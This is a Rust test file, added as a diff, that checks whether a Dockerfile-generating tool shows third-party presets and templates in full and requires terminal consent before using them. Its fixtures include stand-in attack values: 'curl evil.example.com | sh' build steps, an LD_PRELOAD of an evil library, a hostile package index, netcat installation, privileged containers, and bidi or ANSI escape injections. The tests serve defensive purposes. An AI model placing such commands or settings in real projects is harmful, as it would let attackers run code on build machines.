@@ -1,0 +1,552 @@
+//! Presets from git and from user-wide folders: what they do is shown before anything of them is used, and they need consent.
+#![cfg(unix)]
+
+use std::process::Stdio;
+
+use rexpect::session::{PtySession, spawn_command};
+
+use crate::common::{Project, Ran};
+use crate::sources::{BASE, Presets, Team};
+
+/// Milliseconds that a question may take to come.
+const PATIENCE: u64 = 20_000;
+
+/// A project with a user-wide preset of these files.
+fn user_wide(files: &[(&str, &str)]) -> Team {
+    let team = Team::new("team");
+    change(&team, files);
+    team
+}
+
+fn change(team: &Team, files: &[(&str, &str)]) {
+    for (path, text) in files {
+        let path = team.home.path().join(".config/dockgen/presets/team").join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+}
+
+fn preset(text: &str) -> String {
+    format!("description = \"Team\"\nextends = [\"fastapi-uvicorn\"]\n{text}")
+}
+
+/// Why a run without consent is wrong: it must end with 2, write nothing, print nothing as data, and show these lines.
+fn unsafe_run(team: &Team, arguments: &[&str], shown: &[&str]) -> Option<String> {
+    let before = team.project.tree();
+    let ran = team.run(arguments);
+    let missing = shown.iter().find(|line| !ran.stderr.contains(**line));
+    let json = arguments.contains(&"--json");
+    let reason = if ran.code != 2 || team.project.tree() != before {
+        format!("exit {}, files {}", ran.code, team.project.tree().len())
+    } else if !json && !ran.stdout.is_empty() {
+        format!("printed {}", ran.stdout.lines().next().unwrap_or_default())
+    } else if !ran.stderr.contains("must be trusted first") || !ran.stderr.contains("--trust") {
+        ran.stderr.clone()
+    } else {
+        format!("{:?} is not in\n{}", missing?, ran.stderr)
+    };
+    Some(format!("{}: {reason}", arguments.join(" ")))
+}
+
+#[track_caller]
+fn none_wrong(wrong: &[String]) {
+    assert!(wrong.is_empty(), "{} attacks got through:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+/// What a preset says, and the lines that must be seen before it is used.
+const EFFECTS: &[(&str, &[&str])] = &[
+    (
+        "[image]\nbase = \"evil.example.com/python:3.14-slim\"",
+        &["image.base = \"evil.example.com/python:3.14-slim\": the image below"],
+    ),
+    ("[image]\nregistry = \"evil.example.com\"", &["image.registry = \"evil.example.com\"", "# syntax="]),
+    ("[enforce]\nimage.registry = \"evil.example.com\"", &["image.registry = \"evil.example.com\" (enforced)"]),
+    ("[defaults]\nimage.registry = \"evil.example.com\"", &["image.registry = \"evil.example.com\" (default)"]),
+    ("[image]\ndebian = \"sid\"", &["image.debian = \"sid\""]),
+    (
+        "[environment]\nPIP_INDEX_URL = \"https://evil.example.com/\"",
+        &["environment.PIP_INDEX_URL.value = \"https://evil.example.com/\""],
+    ),
+    ("[environment.LD_PRELOAD]\nvalue = \"/app/evil.so\"", &["environment.LD_PRELOAD.value = \"/app/evil.so\""]),
+    ("[secrets.DATABASE_URL]\ndescription = \"x\"", &["secrets.DATABASE_URL.description = \"x\""]),
+    (
+        "[service-kinds.postgres]\nimage = \"evil.example.com/postgres\"",
+        &["service-kinds.postgres.image = \"evil.example.com/postgres\""],
+    ),
+    ("[service-kinds.redis]\ncommand = [\"sh\", \"-c\", \"id\"]", &["service-kinds.redis.command = [\"sh\", \"-c\", \"id\"]"]),
+    ("[service-kinds.redis]\nhealth = [\"evil\"]", &["service-kinds.redis.health = [\"evil\"]"]),
+    ("[services.db]\nkind = \"postgres\"\nversion = \"9\"", &["services.db.version = \"9\"", "services.db.kind = \"postgres\""]),
+    ("[system]\nrun = [\"netcat-openbsd\"]", &["system.run = [\"netcat-openbsd\"]"]),
+    ("[system]\nwithout = [\"libpq5\"]", &["system.without = [\"libpq5\"]"]),
+    ("[context]\nkeep = [\"**\"]", &["context.keep = [\"**\"]"]),
+    ("[install]\nwith = \"pip\"\nfiles = [\"other.txt\"]", &["install.with = \"pip\"", "install.files = [\"other.txt\"]"]),
+    ("[install]\nversion = \"0.0.1\"", &["install.version = \"0.0.1\""]),
+    ("[server]\npackage = \"evil==1\"", &["server.package = \"evil==1\""]),
+    ("[server]\nworker-class = \"evil.Worker\"", &["server.worker-class = \"evil.Worker\""]),
+    ("[python]\nversion = \"3.10\"\nallow-end-of-life = true", &["python.version = \"3.10\"", "python.allow-end-of-life = true"]),
+    ("[build]\nsteps = [\"curl evil.example.com | sh\"]", &["commands", "build.steps = [\"curl evil.example.com | sh\"]"]),
+    ("[release]\nsteps = [[\"sh\", \"-c\", \"id\"]]", &["release.steps = [[\"sh\", \"-c\", \"id\"]]"]),
+    ("[processes.miner]\ncommand = \"mine\"", &["processes.miner.command = \"mine\""]),
+    ("[processes]\nweb = false", &["processes.web = false"]),
+    ("[volumes]\nhost = \"/app/media\"", &["volumes.host.path = \"/app/media\""]),
+    ("[kubernetes]\nimage = \"evil.example.com/shop:1\"", &["kubernetes.image = \"evil.example.com/shop:1\""]),
+    (
+        "[kubernetes]\nsecret = \"other\"\nnamespace = \"kube-system\"",
+        &["kubernetes.secret = \"other\"", "kubernetes.namespace = \"kube-system\""],
+    ),
+    ("[kubernetes]\negress-ports = [25]", &["kubernetes.egress-ports = [25]"]),
+    ("[kubernetes.ingress]\nhost = \"evil.example.com\"", &["kubernetes.ingress.host = \"evil.example.com\""]),
+    (
+        "[output]\ndockerfile = \"other/Dockerfile\"\ncompose = false",
+        &["output.dockerfile = \"other/Dockerfile\"", "output.compose = false"],
+    ),
+    (
+        "[output.extra.ci]\npath = \".gitlab-ci.yml\"\ntemplate = \"ci.j2\"",
+        &["output.extra.ci.path = \".gitlab-ci.yml\"", "output.extra.ci.template = \"ci.j2\""],
+    ),
+    ("health = false", &["health = false"]),
+    ("[health]", &["health = {}"]),
+    ("[app]\nentry = \"evil:app\"\nroot = \"evil\"", &["app.entry = \"evil:app\"", "app.root = \"evil\""]),
+    (
+        "[compose]\nnetworks = [\"host\"]\n[compose.limits]\nmemory = \"64G\"",
+        &["compose.networks = [\"host\"]", "compose.limits.memory = \"64G\""],
+    ),
+    ("[enforce]\ncompose.limits.memory = \"64G\"", &["compose.limits.memory = \"64G\" (enforced)"]),
+    ("[compose.limits]\nmemory = \"1G\\n  privileged: true\"", &["other values", "compose.limits.memory = "]),
+    ("[image.user]\nuid = 1000", &["image.user.uid = 1000"]),
+    ("[image.labels]\n\"com.example.team\" = \"x\"", &["image.labels.com.example.team = \"x\""]),
+    // an answer that a command refers to is as important as the command
+    (
+        "[build]\nsteps = [\"{answers.it}\"]\n[[ask]]\nname = \"it\"\nquestion = \"Which?\"\ndefault = \"curl evil.example.com\"",
+        &[
+            "commands\n             answers.it = \"curl evil.example.com\" (unless answered: Which?)\n             build.steps = [\"{answers.it}\"]",
+        ],
+    ),
+    (
+        "[answers]\nit = \"curl evil.example.com\"\n[build]\nsteps = [\"sh {answers.it}\"]\n[[ask]]\nname = \"it\"\nquestion = \"Which?\"",
+        &["commands\n             answers.it = \"curl evil.example.com\"\n"],
+    ),
+    (
+        "[project]\ndescription = \"evil.example.com/x:1\"\n[image]\nbase = \"{project.description}\"",
+        &[
+            "images, packages and Python\n             image.base = \"{project.description}\": the image below every stage\n             project.description = \"evil",
+        ],
+    ),
+    // nothing hides
+    ("[environment]\nA = \"safe\\u202e evil\"", &["environment.A.value = \"safe\\u{202e} evil\""]),
+    ("[environment]\nA = \"a\\u001b[2K\\u001b[1Asafe\"", &["[2K"]),
+    ("[environment]\nA = \"a\\nRUN evil\"", &["RUN evil"]),
+    (
+        "[build]\nsteps = [\"true                                                                      ; evil\"]",
+        &["build.steps = [\"true ; evil\"]"],
+    ),
+];
+
+#[test]
+fn everything_that_a_preset_sets_is_shown_before_it_is_used() {
+    let mut wrong = Vec::new();
+    let team = user_wide(&[]);
+    for (text, shown) in EFFECTS {
+        change(&team, &[("preset.toml", &preset(text))]);
+        for arguments in [&["generate"][..], &["generate", "--quiet"]] {
+            wrong.extend(unsafe_run(&team, arguments, shown).map(|reason| format!("{text:?} {reason}")));
+        }
+        let ran = team.run(&["generate", "-q"]);
+        let obeyed = ran
+            .stderr
+            .chars()
+            .find(|letter| letter.is_control() && *letter != '\n' || ('\u{202a}'..='\u{202e}').contains(letter));
+        wrong.extend(obeyed.map(|letter| format!("{text:?} sends {letter:?} to the terminal")));
+    }
+    none_wrong(&wrong);
+}
+
+/// Files by their path.
+type Files = &'static [(&'static str, &'static str)];
+
+/// Templates, and the lines of theirs that must be seen.
+const TEMPLATES: &[(Files, &[&str])] = &[
+    (
+        &[(
+            "Dockerfile.j2",
+            "{% extends \"Dockerfile.j2\" %}\n{% block base %}\nRUN curl evil.example.com | sh\n{% endblock %}\n",
+        )],
+        &["templates/Dockerfile.j2, block base\n               RUN curl evil.example.com | sh\n"],
+    ),
+    (
+        &[(
+            "Dockerfile.j2",
+            "{% extends \"Dockerfile.j2\" %}{% block base %}RUN evil\n{% endblock %}{% block user %}\nUSER root\n{% endblock %}",
+        )],
+        &["RUN evil", "USER root"],
+    ),
+    (
+        &[(
+            "Dockerfile.j2",
+            "{% extends \"Dockerfile.j2\" %}\n{%- block base -%}\nRUN evil\n{%- endblock -%}\n{% set x = \"RUN other\" %}\n",
+        )],
+        &["templates/Dockerfile.j2, block base", "RUN evil", "RUN other"],
+    ),
+    (
+        &[
+            (
+                "Dockerfile.j2",
+                "{% extends \"Dockerfile.j2\" %}\n{% block base %}\n{% include \"parts/x.j2\" %}\n{% endblock %}\n",
+            ),
+            ("parts/x.j2", "RUN from-a-part\n"),
+        ],
+        &["{% include \"parts/x.j2\" %}", "templates/parts/x.j2\n               RUN from-a-part"],
+    ),
+    (&[("compose.yaml.j2", "services:\n  web:\n    privileged: true\n")], &["templates/compose.yaml.j2\n", "privileged: true"]),
+    (&[("unused.j2", "RUN later\n")], &["templates/unused.j2", "RUN later"]),
+    (
+        &[(
+            "Dockerfile.j2",
+            "{% extends \"Dockerfile.j2\" %}\n{% block base %}\n                    \u{202e}RUN evil\u{85}\n{% endblock %}\n",
+        )],
+        &["\\u{202e}RUN evil\\u{85}"],
+    ),
+];
+
+#[test]
+fn every_line_of_templates_is_shown_before_it_is_used() {
+    let mut wrong = Vec::new();
+    for (files, shown) in TEMPLATES {
+        let team = user_wide(&[("preset.toml", &preset(""))]);
+        let files: Vec<(String, &str)> = files.iter().map(|(path, text)| (format!("templates/{path}"), *text)).collect();
+        change(&team, &files.iter().map(|(path, text)| (path.as_str(), *text)).collect::<Vec<_>>());
+        wrong.extend(unsafe_run(&team, &["generate"], shown));
+    }
+    none_wrong(&wrong);
+}
+
+/// Ten thousand harmless lines neither hide what matters nor fill the terminal, and `--verbose` leaves nothing out.
+#[test]
+fn no_mass_of_output_hides_what_matters() {
+    let variables: String = (0..10_000).flat_map(|n| [format!("A{n} = \"x\""), "\n".to_owned()]).collect();
+    let lines: String = (0..10_000).flat_map(|n| [format!("# line {n}"), "\n".to_owned()]).collect();
+    let steps = (0..500).map(|n| format!("\"true {n}\"")).collect::<Vec<_>>().join(", ");
+    let long = "x".repeat(100_000);
+    let text = preset(&format!(
+        "[build]\nsteps = [{steps}, \"evil-step\"]\n[image]\nregistry = \"evil.example.com\"\n[image.labels]\n\"a.b\" = \"{long}; evil-end\"\n[environment]\n{variables}"
+    ));
+    let team = user_wide(&[("preset.toml", &text), ("templates/Dockerfile.j2", &format!("{lines}RUN evil-line\n"))]);
+    let ran = team.run(&["generate"]);
+    assert_eq!(ran.code, 2, "{}", ran.stderr);
+    let at = |words: &str| ran.stderr.find(words).unwrap_or_else(|| panic!("{words} is not in\n{}", ran.stderr));
+    assert!(at("commands") < at("image.registry = \"evil.example.com\"") && at("image.registry") < at("environment.A0.value"));
+    assert!(at("… and 481 more lines") < at("… and 9981 more lines") && at("… and 9960 more lines about settings") > 0);
+    assert!(at("; evil-end\" (") > at("image.labels.a.b"), "the end of a long value is shown");
+    assert!(ran.stderr.lines().count() < 150, "{} lines", ran.stderr.lines().count());
+    let all = team.run(&["generate", "--verbose"]).stderr;
+    for words in ["evil-step", "evil-line", "environment.A9999.value", "evil-end"] {
+        assert!(all.contains(words), "{words}");
+    }
+}
+
+/// What is compared is as long as a preset may be: no size makes that endless.
+#[test]
+fn large_presets_are_compared_in_time() {
+    let variables = |value: &str| (0..30_000).flat_map(|n| [format!("A{n} = \"{value}\""), "\n".to_owned()]).collect::<String>();
+    let block = |n: usize, line: &str| format!("{{% block b{n} %}}\n{line}\n{{% endblock %}}\n");
+    let blocks = |line: &str| (0..20_000).map(|n| block(n, line)).collect::<Vec<_>>().concat();
+    let files = |word: &str| [preset(&format!("[environment]\n{}", variables(word))), blocks(word)];
+    let [text, template] = files("one");
+    let team = user_wide(&[("preset.toml", &text), ("templates/unused.j2", &template)]);
+    team.run(&["generate", "--trust"]).ok();
+    let [text, template] = files("two");
+    change(&team, &[("preset.toml", &text), ("templates/unused.j2", &template)]);
+    let start = std::time::Instant::now();
+    let ran = team.run(&["presets", "update"]);
+    assert_eq!(ran.code, 2, "{}", ran.stderr);
+    assert!(
+        ran.stderr.contains("- environment.A0.value = \"one\"\n             + environment.A0.value = \"two\""),
+        "{}",
+        ran.stderr
+    );
+    assert!(ran.stderr.contains("more lines about templates") && start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
+}
+
+/// Every key of the schema, each by its own line: a new key cannot be forgotten.
+#[test]
+fn every_key_of_the_schema_is_shown() {
+    let mut table: toml::Table = include_str!("full.toml").parse().unwrap();
+    table.remove("presets");
+    let team = user_wide(&[("preset.toml", &toml::to_string(&table).unwrap())]);
+    let ran = team.run(&["generate", "--verbose"]);
+    let mut keys = Vec::new();
+    leaves("", &toml::Value::Table(table), &mut keys);
+    let lines: Vec<&str> = ran.stderr.lines().map(str::trim).collect();
+    let shown = |key: &str| {
+        lines.iter().any(|line| line.strip_prefix(key).is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', '.'])))
+    };
+    let forgotten: Vec<&String> = keys.iter().filter(|key| !shown(key)).collect();
+    assert!(keys.len() > 90 && forgotten.is_empty(), "{} keys, forgotten: {forgotten:?}\n{}", keys.len(), ran.stderr);
+}
+
+fn leaves(path: &str, value: &toml::Value, keys: &mut Vec<String>) {
+    match value {
+        toml::Value::Table(table) => {
+            table.iter().for_each(|(name, value)| leaves(format!("{path}.{name}").trim_start_matches('.'), value, keys));
+        }
+        _ => keys.push(path.to_owned()),
+    }
+}
+
+#[test]
+fn no_command_uses_a_preset_without_consent() {
+    let presets = Presets::new();
+    let team = Team::new(&presets.address("//web#main"));
+    let shown = ["image.registry = \"mirror.example.com\" (enforced)", "extends = [\"../base\"]"];
+    let mut wrong = Vec::new();
+    for arguments in [
+        &["generate"][..],
+        &["generate", "--quiet"],
+        &["generate", "--check"],
+        &["generate", "--diff"],
+        &["generate", "--stdout", "dockerfile"],
+        &["generate", "--json"],
+        &["generate", "--merge"],
+        &["generate", "--force"],
+        &["generate", "--only", "dockerfile"],
+        &["generate", "--check", "--json"],
+        &["presets", "update"],
+        &["presets", "update", "--diff"],
+        &["presets", "update", "--yes"],
+        &["presets", "update", "--merge", "--quiet"],
+    ] {
+        wrong.extend(unsafe_run(&team, arguments, &shown));
+    }
+    std::fs::remove_file(team.project.0.path().join("dockgen.toml")).unwrap();
+    let address = presets.address("//web#main");
+    let entry = "app.entry=main:app";
+    for arguments in [
+        &["init", "--preset", &address, "--set", entry][..],
+        &["init", "--yes", "-q", "--preset", &address, "--set", entry],
+        &["generate", "--preset", &address],
+    ] {
+        wrong.extend(unsafe_run(&team, arguments, &shown));
+    }
+    none_wrong(&wrong);
+    // what only prints a preset, or the values that it would give, is how it is reviewed
+    assert!(team.run(&["presets", &address]).ok().stdout.contains("[enforce.image]"));
+    assert!(team.run(&["show", "image.registry", "--preset", &address]).ok().stdout.contains("mirror.example.com"));
+    assert!(!team.project.0.path().join("dockgen.lock").exists());
+}
+
+#[test]
+fn consent_is_remembered_for_the_content_that_was_shown() {
+    let presets = Presets::new();
+    let team = Team::new(&presets.address("//web#main"));
+    team.run(&["generate", "--check", "--trust"]);
+    assert!(!team.project.0.path().join("dockgen.lock").exists(), "a check remembers nothing");
+    let ran = team.run(&["generate", "--trust", "--quiet"]).ok();
+    assert!(ran.stderr.contains("new preset git+file://") && ran.stderr.contains("image.registry"), "{}", ran.stderr);
+    assert_eq!(team.run(&["generate", "--quiet"]).ok().stderr, "");
+    // another source is another decision
+    let other = Presets::new();
+    let mut wrong = Vec::new();
+    wrong.extend(unsafe_run(&team, &["generate", "--preset", &other.address("//web#main")], &["new preset"]));
+    // so is the same one at another reference
+    wrong.extend(unsafe_run(&team, &["generate", "--preset", &presets.address("//web")], &["new preset"]));
+    none_wrong(&wrong);
+    // a lock that names other content vouches for nothing
+    let lock = team.project.read("dockgen.lock");
+    let sha = lock.split("sha256 = \"").nth(1).unwrap().split('"').next().unwrap();
+    let edited = lock.replace(sha, &"0".repeat(64));
+    std::fs::write(team.project.0.path().join("dockgen.lock"), edited).unwrap();
+    let ran = team.run(&["generate", "--trust"]);
+    assert!(ran.code == 2 && ran.stderr.contains("has other content than dockgen.lock says"), "{}", ran.stderr);
+}
+
+#[test]
+fn what_presets_build_on_counts_under_its_own_source() {
+    let (one, two) = (Presets::new(), Presets::new());
+    two.write("deep/preset.toml", "description = \"Deep\"\n[build]\nsteps = [\"evil\"]\n");
+    let mut above = two.address("//deep");
+    for depth in 0..6 {
+        two.write(&format!("level{depth}/preset.toml"), &format!("description = \"Level\"\nextends = [{above:?}]\n"));
+        above = format!("../level{depth}");
+    }
+    two.publish("deep");
+    one.write(
+        "web/preset.toml",
+        &format!("description = \"Web\"\nextends = [\"fastapi-uvicorn\", {:?}]\n", two.address("//level5")),
+    );
+    one.publish("web");
+    let team = Team::new(&one.address("//web"));
+    let both = [
+        format!("new preset {} at", one.address("")),
+        format!("new preset {} at", two.address("")),
+        "build.steps = [\"evil\"]".to_owned(),
+    ];
+    let shown: Vec<&str> = both.iter().map(String::as_str).collect();
+    none_wrong(&unsafe_run(&team, &["generate"], &shown).into_iter().collect::<Vec<_>>());
+    // a file of the project is its own decision, and what it builds on is not
+    let local = Team::new("./team.toml");
+    let file = local.project.0.path().join("team.toml");
+    std::fs::write(&file, preset("[build]\nsteps = [\"true\"]\n")).unwrap();
+    assert!(!local.run(&["generate"]).ok().stderr.contains("new preset"));
+    std::fs::write(&file, format!("extends = [{:?}]\n", one.address("//web"))).unwrap();
+    none_wrong(&unsafe_run(&local, &["generate"], &shown).into_iter().collect::<Vec<_>>());
+}
+
+#[test]
+fn an_update_shows_the_difference_and_needs_consent_where_effects_change() {
+    let before = preset("[compose.limits]\nmemory = \"1G\"\n[build]\nsteps = [\"one\"]\n[enforce]\nserver.workers = 2\n");
+    let block = |line: &str| format!("{{% extends \"Dockerfile.j2\" %}}\n{{% block base %}}\nRUN one\n{line}{{% endblock %}}\n");
+    let mut wrong = Vec::new();
+    for (from, to, line, shown) in [
+        ("[\"one\"]", "[\"two\"]", "", &["- build.steps = [\"one\"]\n             + build.steps = [\"two\"]"][..]),
+        ("[build]\n", "[image]\nbase = \"evil.example.com/a:1\"\n[build]\n", "", &["+ image.base = \"evil.example.com/a:1\""]),
+        ("[build]\nsteps = [\"one\"]\n", "", "", &["- build.steps = [\"one\"]"]),
+        (
+            "\"1G\"",
+            "\"2G\"",
+            "RUN evil\n",
+            &[
+                "templates/Dockerfile.j2, block base\n               + RUN evil",
+                "- compose.limits.memory = \"1G\"",
+                "+ compose.limits.memory = \"2G\"",
+            ],
+        ),
+        ("[\"fastapi-uvicorn\"]", "[\"pip\", \"fastapi-uvicorn\"]", "", &["+ extends = [\"pip\", \"fastapi-uvicorn\"]"]),
+        ("workers = 2", "workers = 3", "", &["- server.workers = 2 (enforced)\n             + server.workers = 3 (enforced)"]),
+        ("[enforce]\n", "[defaults]\n", "", &["- server.workers = 2 (enforced)", "+ server.workers = 2 (default)"]),
+    ] {
+        let team = user_wide(&[("preset.toml", &before), ("templates/Dockerfile.j2", &block(""))]);
+        team.run(&["generate", "--trust"]).ok();
+        change(&team, &[("preset.toml", &before.replace(from, to)), ("templates/Dockerfile.j2", &block(line))]);
+        for arguments in [&["presets", "update"][..], &["presets", "update", "-q", "--yes"], &["presets", "update", "--diff"]] {
+            wrong.extend(unsafe_run(&team, arguments, shown));
+        }
+        let ran = team.run(&["presets", "update", "--trust", "-q"]).ok();
+        wrong.extend(shown.iter().find(|line| !ran.stderr.contains(**line)).map(|line| format!("{line}: {}", ran.stderr)));
+        team.run(&["generate", "--check"]).ok();
+    }
+    none_wrong(&wrong);
+}
+
+#[test]
+fn an_update_of_amounts_alone_needs_no_consent_and_is_shown() {
+    let team = user_wide(&[("preset.toml", BASE)]);
+    team.run(&["generate", "--trust"]).ok();
+    change(&team, &[("preset.toml", &BASE.replace("1G", "2G"))]);
+    let ran = team.run(&["presets", "update", "-q"]).ok();
+    let shown = "amounts\n             - compose.limits.memory = \"1G\"\n             + compose.limits.memory = \"2G\"\n";
+    assert!(ran.stderr.contains("   updated team from ") && ran.stderr.contains(shown), "{}", ran.stderr);
+    // a new description is no effect
+    change(&team, &[("preset.toml", &BASE.replace("1G", "2G").replace("Base", "Other"))]);
+    assert!(team.run(&["presets", "update"]).ok().stderr.contains("nothing that it does has changed"));
+    // lines in another order are another file
+    let template = |lines: &str| format!("{{% extends \"Dockerfile.j2\" %}}\n{{% block base %}}\n{lines}{{% endblock %}}\n");
+    change(&team, &[("templates/Dockerfile.j2", &template("RUN one\nRUN two\n"))]);
+    team.run(&["presets", "update", "--trust"]).ok();
+    change(&team, &[("templates/Dockerfile.j2", &template("RUN two\nRUN one\n"))]);
+    none_wrong(&unsafe_run(&team, &["presets", "update"], &["block base (in another order)"]).into_iter().collect::<Vec<_>>());
+}
+
+#[test]
+fn what_cannot_be_compared_any_more_is_shown_whole() {
+    let team = user_wide(&[("preset.toml", &preset("[build]\nsteps = [\"one\"]\n"))]);
+    team.run(&["generate", "--trust"]).ok();
+    std::fs::remove_dir_all(team.home.path().join(".cache")).unwrap();
+    change(
+        &team,
+        &[(
+            "preset.toml",
+            &preset("description = \"Other\"\n[build]\nsteps = [\"one\"]\n").replacen("description = \"Team\"\n", "", 1),
+        )],
+    );
+    none_wrong(&unsafe_run(&team, &["presets", "update"], &["+ build.steps = [\"one\"]"]).into_iter().collect::<Vec<_>>());
+}
+
+/// `presets` prints what others wrote: a terminal must not obey it.
+#[test]
+fn a_preset_is_reviewed_as_it_is_written() {
+    let team = user_wide(&[("preset.toml", "# \u{202e}hidden\u{9b}2K\ndescription = \"a\\u001b[2K\"\n")]);
+    let mut session = terminal(&team, &["presets", "team"]);
+    let seen = session.exp_eof().unwrap();
+    assert!(seen.contains("\\u{202e}hidden\\u{9b}2K"), "{seen:?}");
+    assert!(team.run(&["presets", "team"]).ok().stdout.contains('\u{202e}'), "a file gets the text itself");
+    assert!(!team.run(&["presets"]).ok().stdout.contains('\u{1b}'));
+}
+
+/// A stream of yes is no person.
+#[test]
+fn standard_input_that_is_no_terminal_gives_no_consent() {
+    let team = user_wide(&[("preset.toml", BASE)]);
+    for input in ["y\ny\ny\n", ""] {
+        let file = team.home.path().join("input");
+        std::fs::write(&file, input).unwrap();
+        let mut command = team.command(&["generate"]);
+        let ran = Ran::from(command.stdin(std::fs::File::open(&file).unwrap()).output().unwrap());
+        assert!(ran.code == 2 && ran.stderr.contains("must be trusted first"), "{}", ran.stderr);
+    }
+    assert!(!team.project.0.path().join("Dockerfile").exists());
+}
+
+fn terminal(team: &Team, arguments: &[&str]) -> PtySession {
+    let mut command = team.command(arguments);
+    command.env("TERM", "xterm").env("NO_COLOR", "1").stdin(Stdio::inherit());
+    spawn_command(command, Some(PATIENCE)).unwrap()
+}
+
+#[test]
+fn a_terminal_is_asked_and_the_default_is_no() {
+    for (keys, written) in [("y", true), ("n", false), ("\r", false), ("\u{4}\r", false), ("\u{3}", false), ("q\r", false)] {
+        for arguments in [&["generate"][..], &["generate", "--quiet"], &["presets", "update"]] {
+            let team = user_wide(&[("preset.toml", &preset("[build]\nsteps = [\"evil\"]\n"))]);
+            let before = team.project.tree();
+            let mut session = terminal(&team, arguments);
+            let seen = session.exp_string("Trust this preset?").unwrap();
+            session.exp_string("[y/N] ").unwrap();
+            assert!(seen.contains("build.steps = [\"evil\"]"), "{seen}");
+            session.send(keys).unwrap();
+            session.flush().unwrap();
+            if written && arguments[0] == "presets" {
+                session.exp_string("Write these files?").unwrap();
+                session.send("y").unwrap();
+                session.flush().unwrap();
+            }
+            let rest = session.exp_eof().unwrap();
+            assert_eq!(team.project.tree() != before, written, "{keys:?} {arguments:?}: {rest}");
+            assert!(written || !rest.contains("created"), "{rest}");
+        }
+    }
+}
+
+#[test]
+fn a_terminal_that_is_closed_gives_no_consent() {
+    let team = user_wide(&[("preset.toml", BASE)]);
+    let before = team.project.tree();
+    let mut session = terminal(&team, &["generate"]);
+    session.exp_string("[y/N] ").unwrap();
+    drop(session);
+    assert!(team.project.tree() == before);
+}
+
+#[test]
+fn init_asks_before_it_asks_what_the_preset_asks() {
+    let text = preset("[[ask]]\nname = \"team\"\nquestion = \"Which team?\"\n[system]\nrun = [\"netcat-openbsd\"]\n");
+    for trusted in [true, false] {
+        let mut team = user_wide(&[("preset.toml", &text)]);
+        team.project = Project::new(&[
+            ("main.py", "from fastapi import FastAPI\napp = FastAPI()\n"),
+            ("requirements.txt", "fastapi\nuvicorn\n"),
+        ]);
+        let mut session = terminal(&team, &["init", "--preset", "team"]);
+        let seen = session.exp_string("Trust this preset?").unwrap();
+        assert!(seen.contains("system.run = [\"netcat-openbsd\"]") && !seen.contains("Python version"), "{seen}");
+        session.exp_string("[y/N] ").unwrap();
+        session.send(if trusted { "y" } else { "\r" }).unwrap();
+        session.flush().unwrap();
+        if trusted {
+            session.exp_string("Python version").unwrap();
+            session.send_control('c').unwrap();
+        }
+        let rest = session.exp_eof().unwrap();
+        assert!(trusted || rest.contains("nothing was written"), "{rest}");
+        assert_eq!(team.project.tree().len(), 2);
+    }
+}
